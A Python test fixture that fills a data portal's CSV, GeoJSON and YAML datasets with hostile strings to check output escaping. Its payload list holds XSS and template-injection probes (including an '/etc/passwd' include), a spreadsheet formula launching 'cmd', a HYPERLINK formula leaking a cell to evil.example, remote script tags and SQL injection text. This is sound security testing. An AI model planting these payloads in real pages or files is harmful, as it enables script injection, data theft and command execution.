"""A portal whose every text was written by someone who means harm."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import yaml

ELSEWHERE = "evil.example"

# Each would do something in a place that takes text for more than text. What runs says so in
# ``window.pwned``; what asks, asks a host that is not ours.
PAYLOADS = (
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=2">',
    '"><svg onload=window.pwned=3>',
    "' autofocus onfocus=window.pwned=4 x='",
    '" onmouseover="window.pwned=5',
    "javascript:window.pwned=6//",
    "[x](javascript:window.pwned=7) **bold** `code` | cell |",
    f"![x](http://{ELSEWHERE}/p.png)",
    "{{ 7*7 }} {{ config }} {% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> ${{ 7*7 }}",
    f'=HYPERLINK("http://{ELSEWHERE}/?x="&A1;"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"</title></script><script src=//{ELSEWHERE}/x.js></script>",
    f"<!-- <iframe src=//{ELSEWHERE}>",
    '<a href="javascript:window.pwned=15">click</a>',
    "invoice\u202egpj.exe",
    "&lt;b&gt; &#x3c;i&#x3e; &amp;amp; &copy",
    "]]></desc></svg><style>*{display:none}</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/a.css><base href=//{ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url=http://{ELSEWHERE}">',
    "<details open ontoggle=window.pwned=21>",
    "\\\";window.pwned=22;// '+window.pwned+' `${window.pwned=22}`",
    "a.b['c'][0] datum.pwned \\n 100% %s %(x)s",
    "</bdi></data></td></table></main><plaintext>",
    "“quoted” ‘quotes’ 'single' \"double\" `back`",
    "O'Brien & Sons <Holdings> Ltd; -- DROP TABLE x",
)


Row = dict[str, str | int]


def sheet(rows: Sequence[Row]) -> str:
    """A CSV file's text."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def descriptor(name: str, kind: str, payloads: Sequence[str], **reading: Any) -> str:
    """A descriptor whose every free text is hostile too."""
    one = payloads[len(name) % len(payloads)]
    resources = reading.pop("resources")
    return yaml.safe_dump(
        {
            "name": name,
            "title": one,
            "description": " ".join(payloads[:6]),
            "licenses": [{"name": "CC-BY-4.0", "title": one}],
            "contributors": [{"title": one, "roles": ["publisher"]}],
            "sources": [{"title": payloads[0]}],
            "lightwell": {
                "kind": kind,
                "as_of": "2025-06-30",
                "notes": list(payloads[:8]),
                **reading,
            },
            "resources": resources,
        },
        allow_unicode=True,
    )


def places(payloads: Sequence[str]) -> dict[str, str]:
    """Boundaries of places with hostile names, and a fact about each."""
    features = [
        {
            "type": "Feature",
            "properties": {"id": f"p{at}", "name": text, "population": 1000 + at},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[at, 0], [at + 1, 0], [at + 1, 9], [at, 9], [at, 0]]],
            },
        }
        for at, text in enumerate(payloads)
    ]
    facts = sheet([{"name": text, "Motto": text} for text in payloads])
    return {
        "areas.geojson": json.dumps({"type": "FeatureCollection", "features": features}),
        "facts.csv": facts,
        "datapackage.yaml": descriptor(
            "places",
            "places",
            payloads,
            resources=[
                {"name": "areas", "path": "areas.geojson", "format": "geojson"},
                {"name": "facts", "path": "facts.csv"},
            ],
        ),
    }


def turned(payloads: Sequence[str], by: int) -> Sequence[str]:
    """The payloads beginning with another, so that each column holds others in one row."""
    at = by * 5 % len(payloads)
    return (*payloads[at:], *payloads[:at])


def budget(payloads: Sequence[str]) -> list[Row]:
    """Amounts of two years, with every label hostile; and a column whose heading is so too."""
    texts = [turned(payloads, by) for by in range(7)]
    return [
        {
            "year": year,
            "phase": phase,
            "direction": "expenditure",
            "fund": fund,
            "fund_code": f"{at} {fund}",
            "department": department,
            "department_code": f"{at} {department}",
            "programme": programme,
            "programme_code": f"{at} {programme}",
            "category": category,
            "category_code": f"{at} {category}",
            "line_id": f"{at} {year} {phase} {line}",
            "place": place,
            payloads[1]: other,
            "amount": 100 + at * 7,
        }
        for at, (fund, department, programme, category, line, place, other) in enumerate(
            zip(*texts, strict=True)
        )
        for year, phase in ((2024, "adopted"), (2024, "actual"), (2025, "adopted"))
    ]


def projects(payloads: Sequence[str]) -> list[Row]:
    """Late projects in two snapshots."""
    texts = [turned(payloads, by) for by in range(5)]
    return [
        {
            "id": f"{at} {name}",
            "name": name,
            "description": description,
            "department": department,
            "category": category,
            "status": "implementation",
            "place": name,
            "budget_original": 9 + at,
            "budget_current": 10 + at,
            "spent": 3,
            "planned_start": "2024-01-01",
            "planned_end": "2025-05-01",
            "forecast_end": "2026-03-01",
            "snapshot": snapshot,
            payloads[0]: other,
        }
        for at, (name, description, department, category, other) in enumerate(
            zip(*texts, strict=True)
        )
        for snapshot in ("2024-12-31", "2025-06-30")
    ]


def requests(payloads: Sequence[str]) -> list[Row]:
    """Requests of two months for as many services as there are payloads."""
    texts = [turned(payloads, by) for by in range(4)]
    return [
        {
            "id": f"{at}-{month} {service}",
            "opened": f"2025-0{month}-03T10:00:00",
            "due": f"2025-0{month}-09T10:00:00",
            "closed": f"2025-0{month}-0{4 + at % 5}T10:00:00",
            "service": service,
            "department": department,
            "status": "closed",
            "place": service,
            "channel": channel,
            payloads[5]: other,
        }
        for at, (service, department, channel, other) in enumerate(zip(*texts, strict=True))
        for month in (4, 5)
    ]


def indicators(payloads: Sequence[str]) -> list[Row]:
    """Indicators with hostile names; some have hostile titles, by the descriptor."""
    texts = [turned(payloads, by) for by in range(3)]
    return [
        {
            "indicator": name,
            "period": f"{year}-06",
            "place": place,
            "value": 40 + at + year % 7,
            "target": 80,
            "Remark": remark,
        }
        for at, (name, remark, place) in enumerate(zip(*texts, strict=True))
        for year in (2024, 2025)
    ]


def payments(payloads: Sequence[str]) -> list[Row]:
    """Payments to hostile payees by hostile departments for hostile purposes."""
    texts = [turned(payloads, by) for by in range(4)]
    return [
        {
            "id": f"{at}-{month} {purpose}",
            "date": f"2025-0{month}-11",
            "payee": payee,
            "payee_code": f"{at} {payee}",
            "amount": 500 + at * 3 + month,
            "department": department,
            "department_code": f"{at} {department}",
            "purpose": purpose,
            "category": category,
            "category_code": f"{at} {category}",
            payloads[2]: purpose,
        }
        for at, (payee, department, purpose, category) in enumerate(zip(*texts, strict=True))
        for month in (4, 5)
    ]


def counts(payloads: Sequence[str]) -> list[Row]:
    """Statistics with hostile names and units, by hostile places."""
    texts = [turned(payloads, by) for by in range(3)]
    return [
        {
            "statistic": name,
            "period": f"{year}-06",
            "place": place,
            "value": 70 + at + year % 5,
            "unit": unit,
            payloads[3]: unit,
        }
        for at, (name, place, unit) in enumerate(zip(*texts, strict=True))
        for year in (2024, 2025)
    ]


def say_also(asides: Sequence[str], projects: Sequence[Row], payments: Sequence[Row]) -> None:
    """Put texts where each stands on a page that there is anyway: no name, and so no page more."""
    newest = [row for row in projects if row["snapshot"] == projects[-1]["snapshot"]]
    cells = [(row, "description") for row in newest] + [(row, "purpose") for row in payments]
    for text, (row, column) in zip(asides, cells, strict=False):
        row[column] = text


def datasets(payloads: Sequence[str], asides: Sequence[str] = ()) -> dict[str, dict[str, str]]:
    """A dataset of every kind, with a payload in every column of text."""
    titles = {text: {"title": text} for text in payloads[:4]}
    rows: dict[str, tuple[list[Row], dict[str, Any]]] = {
        "budget": (budget(payloads), {}),
        "payments": (payments(payloads), {}),
        "projects": (projects(payloads), {}),
        "requests": (requests(payloads), {}),
        "indicators": (indicators(payloads), {"indicators": titles}),
        "counts": (counts(payloads), {}),
    }
    say_also(asides, rows["projects"][0], rows["payments"][0])
    made = {"places": places(payloads)}
    for kind, (lines, reading) in rows.items():
        resources = [{"name": "rows", "path": "rows.csv"}]
        words = descriptor(kind, kind, payloads, resources=resources, **reading)
        made[kind] = {"rows.csv": sheet(lines), "datapackage.yaml": words}
    return made


def write_hostile_portal(
    folder: Path, checkout: Path, payloads: Sequence[str], asides: Sequence[str] = ()
) -> None:
    """Write a whole portal's folder: our own pages and templates, their data."""
    for name in ("site", "templates"):
        shutil.copytree(checkout / name, folder / name)
    shutil.copy(checkout / "mkdocs.yml", folder)
    for name, files in datasets(payloads, asides).items():
        (folder / "datasets" / name).mkdir(parents=True)
        for file, words in files.items():
            (folder / "datasets" / name / file).write_text(words, encoding="utf-8", newline="")
